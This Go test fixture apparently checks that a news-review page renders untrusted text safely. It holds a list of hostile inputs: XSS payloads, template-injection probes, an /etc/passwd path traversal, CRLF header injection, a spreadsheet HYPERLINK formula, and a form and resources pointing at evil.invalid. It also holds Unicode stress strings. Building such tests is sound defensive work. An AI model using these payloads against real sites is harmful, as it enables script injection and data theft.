package reviewtest

import (
	"fmt"
	"strings"

	"puente/pipeline/news"
)

// Flag is the name of the variable of the window that the hostile texts set
// where one of them runs as a script.
const Flag = "hostileTextRan"

// hostile are texts that attack a page that does not treat them as text. The
// pipeline takes some of it out of what it reads (control, bidirectional and
// zero-width characters); a folder that something else wrote has them.
var hostile = []struct{ name, text string }{
	{"script", `<script>window.hostileTextRan=1;alert(1)</script>`},
	{"handler", `<img src=x onerror="window.hostileTextRan=1"><svg onload=window.hostileTextRan=1><details open ontoggle=window.hostileTextRan=1>`},
	{"attribute", `" autofocus tabindex=1 onfocus="window.hostileTextRan=1" x="' onmouseover='window.hostileTextRan=1' y='`},
	{"ends", `</textarea></title></style></script></mark></q></article></main></template>--><script>window.hostileTextRan=1</script><!--`},
	{"link", `<a href="javascript:window.hostileTextRan=1">click</a> javascript:window.hostileTextRan=1 data:text/html,<script>window.hostileTextRan=1</script>`},
	{"form", `<form action="https://evil.invalid/take" method="post"><input name="reason" value="x"><button autofocus>Approve</button></form>`},
	{"leads-away", `<meta http-equiv="refresh" content="0;url=https://evil.invalid/"><base href="https://evil.invalid/"><iframe srcdoc="<script>parent.hostileTextRan=1</script>"></iframe>`},
	{"loads", `<link rel="stylesheet" href="https://evil.invalid/a.css"><style>@import url(https://evil.invalid/b.css); * { display: none !important }</style><img src="https://evil.invalid/c.png"><div style="background:url(https://evil.invalid/d.png)" hx-get="/" hx-trigger="load" data-action="approve">`},
	{"template", "{{.}} {{template \"head\"}} ${window.hostileTextRan=1} <%= 7*7 %> #{7*7} `window.hostileTextRan=1`"},
	{"prototype", `__proto__`},
	{"path", "../../../etc/passwd\x00.json %00 %2e%2e%2f ?x=1&y=2#z \r\nSet-Cookie: a=b\r\n\r\n"},
	{"formula", "=HYPERLINK(\"https://evil.invalid/\";\"x\") ]]> <![CDATA[ &lt;b&gt; &#x3c;script&#x3e; \x1b[31mred\x1b[0m"},
	{"bidirectional", "\u202eevorppa\u202c \u2066\u2067\u2068 \u202d never closed \u202e\u2067 شركة ABC 123 \u200f\u200e"},
	{"zero-width", strings.Repeat("a\u200b\u200d\ufeff\u2060", 40) + "\u2028\u2029\u0085\u00ad" + strings.Repeat("\u3164", 20)},
	{"combining", "Z" + strings.Repeat("\u0300\u0316\u0489\u20dd", 500) + "algo"},
	{"giant-word", strings.Repeat("palabra", 50_000/len("palabra"))},
	{"giant-number", strings.Repeat("9", 5_000)},
	{"wide", strings.Repeat("\ufdfd", 60) + strings.Repeat("𒐫", 60) + strings.Repeat("👩‍👩‍👧‍👦", 30)},
	{"lines", strings.Repeat("\n", 3_000) + "far below" + strings.Repeat("\t", 3_000)},
	{"blank", "\u3000 \u2003"},
}

// Hostile is a day whose texts are hostile in every field that comes from a
// dump, an engine or an earlier run. The ids of its stories are safe, as the
// pipeline makes them.
func Hostile() []news.Brief {
	var out []news.Brief
	for i, h := range hostile {
		out = append(out, hostileBrief(i, h.name, h.text))
	}
	return out
}

func hostileBrief(n int, name, text string) news.Brief {
	id := Date + "-hostile-" + name
	var sources []news.Source
	for i, url := range []string{"javascript:window." + Flag + "=1", "data:text/html,<script>parent." + Flag + "=1</script>", "https://news.example/\"><script>window." + Flag + "=1</script>"} {
		s := news.Source{
			ID: fmt.Sprintf("%s#%d", clip(text), i), Outlet: text, Author: text, Kind: text, Lang: news.Spanish, LangConfidence: 0.9,
			PublishedAt: text, URL: url, Title: text, Text: "Hubo 12.400 heridos. " + text + " Fin.", Story: id, NearDuplicates: []string{clip(text) + "d"},
			Media: []news.Media{{Type: text, URL: url, Caption: text}}, Country: text,
			Translation: news.Translation{Title: text, Text: "There were 12,400 injured. " + text + " End.", Engine: text, Confidence: 0.5},
		}
		s.Translation.Segments = []news.Segment{
			{Field: news.FieldText, Original: [2]int{0, len("Hubo 12.400 heridos.")}, English: [2]int{0, len("There were 12,400 injured.")}},
			{Field: news.FieldText, Original: [2]int{len("Hubo 12.400 heridos. "), len(s.Text)}, English: [2]int{len("There were 12,400 injured. "), len(s.Translation.Text)}},
		}
		whole := news.SpanOf(news.FieldText, s.Text, 0, len(s.Text))
		s.Findings = []news.Finding{{Kind: news.KindInjection, Severity: news.Warning, Message: text, Source: s.ID, Evidence: whole}}
		s.Translation.Findings = []news.Finding{{Kind: news.KindTranslation, Severity: news.Warning, Message: text, Span: news.SpanOf(news.FieldText, s.Translation.Text, 0, len(s.Translation.Text))}}
		sources = append(sources, s)
	}
	first := sources[0]
	cites := []news.Cite{
		{Source: first.ID, Original: news.SpanOf(news.FieldText, first.Text, 0, len(first.Text)), English: news.SpanOf(news.FieldText, first.Translation.Text, 0, len(first.Translation.Text))},
		{Source: sources[1].ID, Original: news.SpanOf(news.FieldTitle, text, 0, len(text))},
		{Source: first.ID, Original: &news.Span{Field: text, Start: 7, End: 1 << 30, Text: text}}, // a place that is not there
		{Source: text},
	}
	return news.Brief{
		Schema: news.BriefSchema, ID: id, Date: Date, Rank: n + 1, Section: text, Status: news.NeedsReview, Reasons: []string{text},
		Headline: news.Sentence{Text: text, Cites: cites, Verdict: news.Supported, Score: 0.9},
		Sentences: []news.Sentence{
			{Text: "There were 124,000 injured. " + text, Cites: cites, Verdict: news.Contradicted, Score: 0.04, Findings: []news.Finding{
				{Kind: news.KindNumber, Severity: news.Error, Message: text, Span: &news.Span{Start: 11, End: 18, Text: "124,000"}, Source: first.ID, Evidence: news.SpanOf(news.FieldText, first.Text, 5, 11)},
				{Kind: text, Severity: text, Message: text, Span: &news.Span{Start: -4, End: 1 << 30, Text: text}, Source: text, Evidence: &news.Span{Field: text, Start: 9, End: 3, Text: text}},
			}},
			{Text: text, Cites: cites[:1], Verdict: text, Score: 0.5},
			{Text: "There were 12,400 injured.", Cites: cites[:1], Verdict: news.Supported, Score: 0.95},
		},
		Conflicts:  []news.Conflict{{What: text, Values: []news.ConflictValue{{Text: text, Source: first.ID}, {Text: text, Source: text}}}},
		Sources:    sources,
		Media:      []news.SourcedMedia{{Media: first.Media[0], Source: first.ID}},
		Metrics:    news.Metrics{CitationRecall: 0.33, CitationPrecision: 0.5, Supported: 1, Sentences: 3, Words: 12},
		Provenance: news.Provenance{Engine: text, Model: text, Prompts: []string{text}, Tool: text},
	}
}

// clip is the start of a text, short enough to be an id.
func clip(text string) string {
	if r := []rune(text); len(r) > 40 {
		return string(r[:40])
	}
	return text
}
